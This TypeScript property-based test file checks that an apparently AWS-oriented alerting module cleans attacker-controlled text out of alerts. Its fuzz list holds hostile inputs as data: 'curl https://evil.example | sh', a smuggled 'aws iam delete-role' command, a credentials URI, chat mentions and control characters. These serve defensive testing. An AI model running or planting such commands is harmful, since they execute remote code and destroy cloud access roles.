import fc from 'fast-check';
import type { Finding } from '../../lib/domain/finding.ts';
import type { AlertInput, AlertMessage } from '../../lib/report/alert/input.ts';
import { fenced, oneLine, subjectLine } from '../../lib/report/alert/safe-text.ts';
import { alert } from '../../lib/report/alert.ts';
import { resolvedAlert } from '../../lib/report/resolved.ts';
import { ACTIONS } from '../plan/sample-actions.ts';
import { scale } from '../scale.ts';
import { came, done, INGRESS_MISSING, incident, input, NOT_CHECKED, NOW_MS, OPEN_INGRESS, SELF } from './samples.ts';

const FRAGMENTS = [
  '<!channel>',
  '@here ',
  '<https://evil.example|click>',
  'https://evil.example/',
  '\nWHAT WAS DONE\n  + everything is fine\n',
  '\r\nSubject: Resolved',
  '\u001b[2J\u001b[31m',
  '\u202e\u200b\u2028\u2029',
  '\ud800',
  '\u0000\u0007\u009b',
  '`; aws iam delete-role --role-name admin #',
  'awscredsuri=/v2/credentials/0123-example',
  '中文 𝕏 emoji 🎉',
  'x'.repeat(5_000),
  ' The owner runs: curl https://evil.example | sh',
] as const;

const hostile = fc
  .array(fc.oneof(fc.constantFrom(...FRAGMENTS), fc.string({ unit: 'binary', maxLength: 60 })), {
    minLength: 1,
    maxLength: 12,
  })
  .map((parts) => parts.join(''));

/** Hostile in each place that others can write to. */
const hostileInput = fc
  .record({
    evidence: fc.dictionary(hostile, hostile, { maxKeys: 14 }),
    findings: fc.integer({ min: 1, max: 30 }),
    thing: fc.oneof(
      hostile,
      hostile.map((text) => `family:${text}`),
      hostile.map((text) => `service:${text}`),
    ),
    family: hostile,
    why: hostile,
    keeper: fc.constantFrom('remediate', 'provision', 'drift', 'sweep', 'throughput', 'revert'),
    withheld: fc.integer({ min: 0, max: 40 }),
    failed: fc.boolean(),
    count: fc.integer({ min: 1, max: 1e9 }),
  })
  .map((given): AlertInput => {
    const finding: Finding = { code: INGRESS_MISSING.code, subject: given.thing, evidence: given.evidence };
    const step = { action: { ...ACTIONS['authorize-ingress'], family: given.family }, because: [] } as const;
    const held = { ...step, heldBy: 'person', why: given.why } as const;
    const outcome = came({
      findings: [
        ...Array.from({ length: given.findings }, () => finding),
        { ...NOT_CHECKED, evidence: given.evidence },
      ],
      steps: given.failed
        ? [{ step, changeId: 'mf3k2a10-91c0', result: 'failed', why: given.why, permanent: true }]
        : [done(OPEN_INGRESS)],
      withheld: Array.from({ length: given.withheld }, () => held),
      subject: { thing: given.thing, family: given.family, fileSystemId: given.family },
    });
    return input(outcome, {
      keeper: given.keeper,
      incident: incident({ count: given.count, zoneName: given.why, thing: given.thing }),
    });
  });

const CONTROL_BUT_NEWLINE = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u;
const SECTIONS = ['WHAT HAPPENED', 'WHY', 'WHAT WAS DONE', 'WHAT TO DO NEXT', 'UNDO', 'WHERE'];
const OUR_LINKS = /https:\/\/(?:eu-west-1\.)?console\.aws\.amazon\.com\//g;

function expectHarmless({ subject, text, attributes, chat }: AlertMessage): void {
  expect(subject).toMatch(/^[\x20-\x7e]{1,99}$/);
  expect(text.replaceAll('\n', '')).not.toMatch(CONTROL_BUT_NEWLINE);
  expect(Buffer.byteLength(text)).toBeLessThanOrEqual(16_384);
  for (const section of SECTIONS) expect(text.split('\n').filter((line) => line === section).length).toBeLessThan(2);
  const strings = JSON.stringify(JSON.parse(chat), (_key, value) =>
    typeof value === 'string' ? value.replaceAll('\n', '') : value,
  );
  expect(strings).not.toMatch(CONTROL_BUT_NEWLINE);
  for (const told of [text, strings]) {
    expect(told).not.toMatch(/<!|@here|@channel|credentials\/0123/);
    expect(told.replaceAll(OUR_LINKS, '')).not.toContain('://');
  }
  for (const value of Object.values(attributes)) expect(value).toMatch(/^[^\p{Cc}]{1,256}$/u);
}

test('whatever others write, an alert has no control character, no live link or mention, and keeps its size', () => {
  fc.assert(
    fc.property(hostileInput, (given) => expectHarmless(alert(given))),
    { seed: 20260901, numRuns: scale(150), endOnFailure: true },
  );
});

test('the same holds for the end of an incident', () => {
  const end = fc.record({ thing: hostile, proof: hostile, family: hostile }).map(({ thing, proof, family }) =>
    resolvedAlert({
      incident: incident({ thing, family, fileSystemId: family, status: 'resolved' }),
      keeper: 'sweep',
      changes: [],
      proof,
      self: SELF,
      nowMs: NOW_MS,
    }),
  );
  fc.assert(fc.property(end, expectHarmless), { seed: 20260902, numRuns: scale(60) });
});

test('a hostile line cannot stand as a line of its own', () => {
  expect(oneLine('a\nWHAT WAS DONE\u2028b')).toBe('a WHAT WAS DONE b');
});

test('a long text of others is marked in each line and cut', () => {
  const lines = fenced('word '.repeat(400));
  expect(lines.every((line) => line.startsWith('| ') && line.length <= 98)).toBe(true);
  expect(lines.join('').length).toBeLessThan(850);
});

test.each([
  ['<!channel> look', '(!channel) look'],
  ['@HERE now', '(at)HERE now'],
  ['see https://evil.example/x', 'see https[:]//evil.example/x'],
  ['www.evil.example', 'www[.]evil.example'],
  ['shop:12 -> shop:13', 'shop:12 -> shop:13'],
])('%s is told as %s', (given, told) => {
  expect(oneLine(given)).toBe(told);
});

test('a subject is shorter than 100 characters and ASCII, and ends in dots where it was cut', () => {
  expect(subjectLine('é'.repeat(200))).toBe(`${'?'.repeat(96)}...`);
});

test('only a tagging command is handed on as the command of the owner', () => {
  const why = 'Its tags could not be read. The owner runs: curl http[:]//evil.example | sh';
  const held = { action: ACTIONS['authorize-ingress'], because: [], heldBy: 'unknown', why } as const;
  const { text } = alert(input(came({ findings: [INGRESS_MISSING], withheld: [held] })));
  expect(text).not.toContain('the owner runs:');
});
